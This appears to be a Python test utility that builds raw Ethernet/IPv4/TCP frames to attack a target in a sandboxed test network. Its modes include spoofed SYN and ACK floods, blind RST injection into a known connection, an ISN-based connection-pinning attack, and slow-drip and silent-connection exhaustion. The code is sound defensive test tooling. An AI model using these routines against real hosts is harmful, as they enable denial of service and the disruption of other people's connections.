#!/usr/bin/env python3
"""Hostile TCP traffic for the attack system tests (tests/system/test_attack.py,
test_hostile.py) and `tools/incast hostile`:
a small packet generator on an AF_PACKET socket, bounded in count and time.

Run inside a network namespace ("ip netns exec NS python3 tcp_attack.py ...").
Every frame is built here (Ethernet, IPv4, TCP with correct checksums, no
options) and sent on --iface to --dst-mac; nothing goes through the
namespace's own TCP stack.  Each mode stops after --count frames or
--seconds, whichever comes first, paced to --rate frames per second, and
prints one JSON line {"mode", "sent", "seconds", ...}.

    syn     random-tuple SYN flood: source address drawn from --src-net,
            random source port and ISN, to --dst-ip:--dport.
    ack     random-tuple ACK flood: random source address/ports, sequence and
            ACK numbers, to --dst-ip (random destination port).  With
            --rst-src IP:PORT --rst-dport P, every --rst-every-th frame is
            instead an RST with a random sequence number spoofed from that
            connection's peer (a blind reset of a known connection).
    pin     the pinning attack (issue 31, item 1), on --ports source ports of
            --src-ip: SYN with ISN X (no MSS option), read the SYN-ACK and
            abandon it; SYN again from the same port with ISN X + 2^30; read
            that SYN-ACK, complete the handshake and trickle --trickle
            segments of 100 bytes (no options) every --trickle-interval s.
            Needs the target to answer each SYN (a listener; SYN cookies
            make it answer the second SYN of a port too).
    vmflood run in a VM: data segments of --payload bytes on --flows
            connections from --src-ip to --dst-ip:--dport (no handshake),
            whose ACK number jumps by 2^29 every segment: each looks like
            a request and an ACK of a huge amount of data, so PAC holds
            them.
    silent  SYNs from --src-net at --rate, and the handshake's ACK for every
            SYN-ACK that comes back (the sources must be routed to this
            host): completed connections that never carry data.
    drip    --ports connections from --src-net without options (no MSS
            option), each sending --payload bytes every --trickle-interval
            seconds for --seconds.
    connect real connections from this namespace to --dst-ip:--dport at
            --rate a second, closed once open; prints the handshake times.
    sink    a listener on --port that accepts, keeps every connection open
            and discards what it reads (the attacked VM's service); prints
            "READY <port>" and runs until killed.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import select
import signal
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def csum_add(data: bytes, acc: int = 0) -> int:
    """Ones' complement sum of 'data' (padded to even length) into 'acc'."""
    if len(data) % 2:
        data += b"\0"
    acc += sum(struct.unpack(f"!{len(data) // 2}H", data))
    return acc


def csum_fold(acc: int) -> int:
    while acc >> 16:
        acc = (acc & 0xffff) + (acc >> 16)
    return ~acc & 0xffff


class Framer:
    """Builds Ethernet/IPv4/TCP frames from 'src_mac' to 'dst_mac'."""

    def __init__(self, src_mac: bytes, dst_mac: bytes):
        self.eth = dst_mac + src_mac + struct.pack("!H", ETH_P_IP)
        self.ip_id = random.randrange(1 << 16)

    def frame(self, src: bytes, dst: bytes, sport: int, dport: int,
              seq: int, ack: int, flags: int, window: int = 64240,
              payload: bytes = b"", payload_sum: int = -1) -> bytes:
        """'payload_sum': csum_add(payload), if the caller has it (a flood
        reuses one payload)."""
        tcp_len = 20 + len(payload)
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xffffffff,
                          ack & 0xffffffff, 5 << 4, flags, window, 0, 0)
        acc = csum_add(src + dst + struct.pack("!BBH", 0, 6, tcp_len))
        acc = csum_add(tcp, acc)
        acc += payload_sum if payload_sum >= 0 else csum_add(payload)
        tcp = tcp[:16] + struct.pack("!H", csum_fold(acc)) + tcp[18:]
        self.ip_id = (self.ip_id + 1) & 0xffff
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + tcp_len, self.ip_id,
                         0x4000, 64, 6, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", csum_fold(csum_add(ip))) + ip[12:]
        return self.eth + ip + tcp + payload


def parse_tcp(frame: bytes):
    """(src ip, dst ip, sport, dport, seq, ack, flags) of an IPv4/TCP frame,
    or None."""
    if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
        return None
    ihl = (frame[14] & 0x0f) * 4
    t = 14 + ihl
    sport, dport, seq, ack, _, flags = struct.unpack(
        "!HHIIBB", frame[t:t + 14])
    return frame[26:30], frame[30:34], sport, dport, seq, ack, flags


# Set by SIGTERM: every mode stops as if its time were up and prints its
# line.
STOP = [False]


def stop_on_sigterm() -> None:
    def handler(signum, frame):
        STOP[0] = True
    signal.signal(signal.SIGTERM, handler)


class Pacer:
    """Stops after 'count' frames or 'seconds' or at SIGTERM; sleeps to
    keep 'rate'."""

    def __init__(self, count: int, rate: float, seconds: float):
        self.count, self.rate, self.seconds = count, rate, seconds
        self.sent = 0
        self.start = time.monotonic()

    def more(self) -> bool:
        if self.sent >= self.count or STOP[0]:
            return False
        elapsed = time.monotonic() - self.start
        if elapsed >= self.seconds:
            return False
        ahead = self.sent / self.rate - elapsed
        if ahead > 0.002:
            time.sleep(ahead)
        return True

    def elapsed(self) -> float:
        return time.monotonic() - self.start


def open_socket(iface: str) -> socket.socket:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                      socket.htons(ETH_P_IP))
    s.bind((iface, ETH_P_IP))
    # A full transmit queue (ENOBUFS) only slows the flood down.
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    return s


def send(s: socket.socket, frame: bytes) -> bool:
    try:
        s.send(frame)
        return True
    except OSError:
        return False


def mac_of(iface: str) -> bytes:
    with open(f"/sys/class/net/{iface}/address") as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def addresses(net: str) -> list[bytes]:
    return [a.packed for a in ipaddress.ip_network(net).hosts()]


class SynFramer:
    """SYNs without options from one of 'srcs' to dst:dport, built with
    checksums summed from parts precomputed per source: Framer.frame()
    costs ~20 us in Python, too slow for 50 000 SYNs a second."""

    FRAME = struct.Struct("!14sBBHHHBBH4s4sHHIIBBHHH")

    def __init__(self, fr: Framer, srcs: list[bytes], dst: bytes,
                 dport: int, flags: int = SYN, window: int = 64240):
        self.eth, self.fr, self.srcs, self.dst = fr.eth, fr, srcs, dst
        self.dport, self.flags, self.window = dport, flags, window
        self.src_sums = [csum_add(a) for a in srcs]
        self.tcp_base = (csum_add(dst) + 6 + 20 + dport + (5 << 12 | flags)
                         + window)
        self.ip_base = csum_add(struct.pack("!BBHHBB", 0x45, 0, 40, 0x4000,
                                            64, 6) + dst)

    def frame(self, i: int, sport: int, seq: int, ack: int = 0) -> bytes:
        src_sum = self.src_sums[i]
        tcp = csum_fold(self.tcp_base + src_sum + sport + (seq >> 16)
                        + (seq & 0xffff) + (ack >> 16) + (ack & 0xffff))
        self.fr.ip_id = ip_id = (self.fr.ip_id + 1) & 0xffff
        ip = csum_fold(self.ip_base + src_sum + ip_id)
        return self.FRAME.pack(self.eth, 0x45, 0, 40, ip_id, 0x4000, 64, 6,
                               ip, self.srcs[i], self.dst, sport, self.dport,
                               seq, ack, 5 << 4, self.flags, self.window,
                               tcp, 0)


def flood_syn(args, s: socket.socket, fr: Framer) -> dict:
    srcs = addresses(args.src_net)
    b = SynFramer(fr, srcs, socket.inet_aton(args.dst_ip), args.dport)
    p = Pacer(args.count, args.rate, args.seconds)
    failed = 0
    rand = random.getrandbits
    n = len(srcs)
    while p.more():
        r = rand(64)
        failed += not send(s, b.frame(r % n, 1024 + (r >> 16) % 64512,
                                      r >> 32))
        p.sent += 1
    return {"sent": p.sent, "send_errors": failed, "seconds": p.elapsed()}


def flood_ack(args, s: socket.socket, fr: Framer) -> dict:
    srcs = addresses(args.src_net)
    dst = socket.inet_aton(args.dst_ip)
    rst_src = None
    if args.rst_src:
        ip, port = args.rst_src.rsplit(":", 1)
        rst_src = (socket.inet_aton(ip), int(port))
    p = Pacer(args.count, args.rate, args.seconds)
    failed = rsts = 0
    while p.more():
        if rst_src and p.sent % args.rst_every == 0:
            f = fr.frame(rst_src[0], dst, rst_src[1], args.rst_dport,
                         random.getrandbits(32), 0, RST)
            rsts += 1
        else:
            f = fr.frame(random.choice(srcs), dst,
                         random.randrange(1024, 65536),
                         random.randrange(1024, 65536),
                         random.getrandbits(32), random.getrandbits(32), ACK)
        failed += not send(s, f)
        p.sent += 1
    return {"sent": p.sent, "rsts": rsts, "send_errors": failed,
            "seconds": p.elapsed()}


def wait_synack(s: socket.socket, src: bytes, dst: bytes, sport: int,
                dport: int, timeout: float):
    """The SYN-ACK from dst:dport to src:sport, or None after 'timeout'."""
    deadline = time.monotonic() + timeout
    while True:
        left = deadline - time.monotonic()
        if left <= 0 or not select.select([s], [], [], left)[0]:
            return None
        t = parse_tcp(s.recv(2048))
        if t and t[0] == dst and t[1] == src and t[2] == dport \
                and t[3] == sport and t[6] & (SYN | ACK) == SYN | ACK:
            return t


def pin(args, s: socket.socket, fr: Framer) -> dict:
    src = socket.inet_aton(args.src_ip)
    dst = socket.inet_aton(args.dst_ip)
    base = random.randrange(20000, 60000 - args.ports)
    synacks = established = sent = 0
    conns = []
    start = time.monotonic()
    for sport in range(base, base + args.ports):
        isn = random.getrandbits(32)
        send(s, fr.frame(src, dst, sport, args.dport, isn, 0, SYN))
        sent += 1
        if wait_synack(s, src, dst, sport, args.dport, 1.0) is None:
            continue
        synacks += 1
        # Abandoned: no ACK.  The same port again, ISN + 2^30, at once
        # (well within PAC's idle timeout).
        isn2 = (isn + (1 << 30)) & 0xffffffff
        send(s, fr.frame(src, dst, sport, args.dport, isn2, 0, SYN))
        sent += 1
        t = wait_synack(s, src, dst, sport, args.dport, 1.0)
        if t is None:
            continue
        synacks += 1
        seq, ack = isn2 + 1, t[4] + 1
        send(s, fr.frame(src, dst, sport, args.dport, seq, ack, ACK))
        sent += 1
        established += 1
        conns.append([sport, seq, ack])
    payload = bytes(100)
    psum = csum_add(payload)
    for _ in range(args.trickle):
        if time.monotonic() - start > args.seconds:
            break
        for c in conns:
            send(s, fr.frame(src, dst, c[0], args.dport, c[1], c[2],
                             ACK | PSH, payload=payload, payload_sum=psum))
            c[1] += len(payload)
            sent += 1
        time.sleep(args.trickle_interval)
    return {"sent": sent, "synacks": synacks, "established": established,
            "seconds": time.monotonic() - start}


def vmflood(args, s: socket.socket, fr: Framer) -> dict:
    src = socket.inet_aton(args.src_ip)
    dst = socket.inet_aton(args.dst_ip)
    payload = bytes(args.payload)
    psum = csum_add(payload)
    base = random.randrange(20000, 60000 - args.flows)
    flows = [[base + i, random.getrandbits(32), random.getrandbits(32)]
             for i in range(args.flows)]
    p = Pacer(args.count, args.rate, args.seconds)
    failed = 0
    while p.more():
        f = flows[p.sent % len(flows)]
        failed += not send(s, fr.frame(src, dst, f[0], args.dport, f[1], f[2],
                                       ACK | PSH, payload=payload,
                                       payload_sum=psum))
        f[1] += len(payload)
        f[2] += 1 << 29
        p.sent += 1
    return {"sent": p.sent, "send_errors": failed, "seconds": p.elapsed()}


def silent(args, s: socket.socket, fr: Framer) -> dict:
    """SYNs from --src-net (routed back to this host) and, for each SYN-ACK
    that comes back, the handshake's ACK: connections that are real to the
    target and never carry data."""
    srcs = addresses(args.src_net)
    index = {a: i for i, a in enumerate(srcs)}
    dst = socket.inet_aton(args.dst_ip)
    syn = SynFramer(fr, srcs, dst, args.dport)
    ack = SynFramer(fr, srcs, dst, args.dport, flags=ACK)
    s.setblocking(False)
    p = Pacer(args.count, args.rate, args.seconds)
    rand = random.getrandbits
    n = len(srcs)
    synacks = failed = 0
    while p.more():
        r = rand(64)
        failed += not send(s, syn.frame(r % n, 1024 + (r >> 16) % 64512,
                                        r >> 32))
        p.sent += 1
        while True:
            try:
                frame, addr = s.recvfrom(2048)
            except BlockingIOError:
                break
            if addr[2] == socket.PACKET_OUTGOING:
                continue
            t = parse_tcp(frame)
            if (t and t[0] == dst and t[2] == args.dport and t[1] in index
                    and t[6] & (SYN | ACK) == SYN | ACK):
                synacks += 1
                failed += not send(s, ack.frame(index[t[1]], t[3], t[5],
                                                (t[4] + 1) & 0xffffffff))
    return {"sent": p.sent, "synacks": synacks, "send_errors": failed,
            "seconds": p.elapsed()}


def drip(args, s: socket.socket, fr: Framer) -> dict:
    """--ports connections from --src-net without options (no MSS), each
    sending a --payload-byte segment every --trickle-interval seconds until
    --seconds: data that trickles faster than PAC's dry time."""
    srcs = addresses(args.src_net)
    dst = socket.inet_aton(args.dst_ip)
    conns = []
    start = time.monotonic()
    for i in range(args.ports):
        src, sport = srcs[i % len(srcs)], random.randrange(20000, 60000)
        isn = random.getrandbits(32)
        send(s, fr.frame(src, dst, sport, args.dport, isn, 0, SYN))
        t = wait_synack(s, src, dst, sport, args.dport, 1.0)
        if t is None:
            continue
        seq, ack = (isn + 1) & 0xffffffff, (t[4] + 1) & 0xffffffff
        send(s, fr.frame(src, dst, sport, args.dport, seq, ack, ACK))
        conns.append([src, sport, seq, ack])
    payload = bytes(args.payload)
    psum = csum_add(payload)
    sent = 0
    next_at = time.monotonic()
    while conns and time.monotonic() - start < args.seconds and not STOP[0]:
        for c in conns:
            send(s, fr.frame(c[0], dst, c[1], args.dport, c[2], c[3],
                             ACK | PSH, payload=payload, payload_sum=psum))
            c[2] = (c[2] + len(payload)) & 0xffffffff
            sent += 1
        next_at += args.trickle_interval
        delay = next_at - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    return {"sent": sent, "established": len(conns),
            "seconds": time.monotonic() - start}


def connect_probe(args) -> int:
    """Real connections (this namespace's TCP) to --dst-ip:--dport at --rate
    a second for --seconds, each closed once open: how long each handshake
    took, in milliseconds.  Prints {"connects", "failed", "p50_ms",
    "p99_ms", "max_ms"}."""
    times: list[float] = []
    failed = 0
    start = time.monotonic()
    k = 0
    while time.monotonic() - start < args.seconds and not STOP[0]:
        c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        c.settimeout(3.0)
        t0 = time.monotonic()
        try:
            c.connect((args.dst_ip, args.dport))
            times.append((time.monotonic() - t0) * 1000)
        except OSError:
            failed += 1
        c.close()
        k += 1
        delay = start + k / args.rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    times.sort()
    pick = lambda q: round(times[min(len(times) - 1,
                                     int(q * len(times)))], 3) if times else 0
    print(json.dumps({"mode": "connect", "connects": len(times),
                      "failed": failed, "p50_ms": pick(0.5),
                      "p99_ms": pick(0.99),
                      "max_ms": round(times[-1], 3) if times else 0}),
          flush=True)
    return 0


def sink(args) -> int:
    """Accepts on --port, keeps every connection open and discards what it
    reads (epoll: tens of thousands of silent connections).  At SIGTERM it
    resets them all (SO_LINGER 0: no FIN for the VM's TCP to retransmit to
    hosts that never answer) and exits."""
    import resource
    import selectors

    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 18, 1 << 18))
    except (ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((args.bind, args.port))
    srv.listen(4096)
    srv.setblocking(False)
    sel = selectors.DefaultSelector()
    sel.register(srv, selectors.EVENT_READ)
    print(f"READY {srv.getsockname()[1]}", flush=True)
    linger = struct.pack("ii", 1, 0)
    while not STOP[0]:
        for key, _ in sel.select(0.2):
            r = key.fileobj
            if r is srv:
                try:
                    c, _ = srv.accept()
                except OSError:
                    time.sleep(0.01)    # Out of descriptors: let them wait.
                    continue
                c.setblocking(False)
                sel.register(c, selectors.EVENT_READ)
                continue
            try:
                data = r.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                sel.unregister(r)
                r.close()
    for key in list(sel.get_map().values()):
        if key.fileobj is not srv:
            key.fileobj.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                   linger)
        key.fileobj.close()
    return 0


def main(argv: list[str]) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("mode", choices=["syn", "ack", "pin", "vmflood", "silent",
                                    "drip", "connect", "sink"])
    p.add_argument("--iface", default="eth0")
    p.add_argument("--dst-mac", help="aa:bb:cc:dd:ee:ff")
    p.add_argument("--dst-ip")
    p.add_argument("--dport", type=int, default=0)
    p.add_argument("--src-net", default="", help="source addresses (flood)")
    p.add_argument("--src-ip", default="")
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--rate", type=float, default=5000, help="frames/s")
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument("--rst-src", default="")
    p.add_argument("--rst-dport", type=int, default=0)
    p.add_argument("--rst-every", type=int, default=4)
    p.add_argument("--ports", type=int, default=16)
    p.add_argument("--trickle", type=int, default=10)
    p.add_argument("--trickle-interval", type=float, default=0.1)
    p.add_argument("--flows", type=int, default=64)
    p.add_argument("--payload", type=int, default=1000)
    p.add_argument("--bind", default="0.0.0.0")
    p.add_argument("--port", type=int, default=0)
    p.add_argument("--seed", type=int, default=None)
    args = p.parse_args(argv)
    random.seed(args.seed)
    stop_on_sigterm()
    if args.mode == "sink":
        return sink(args)
    if args.mode == "connect":
        return connect_probe(args)
    s = open_socket(args.iface)
    fr = Framer(mac_of(args.iface),
                bytes.fromhex(args.dst_mac.replace(":", "")))
    result = {"syn": flood_syn, "ack": flood_ack, "pin": pin,
              "vmflood": vmflood, "silent": silent,
              "drip": drip}[args.mode](args, s, fr)
    print(json.dumps({"mode": args.mode, **result}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
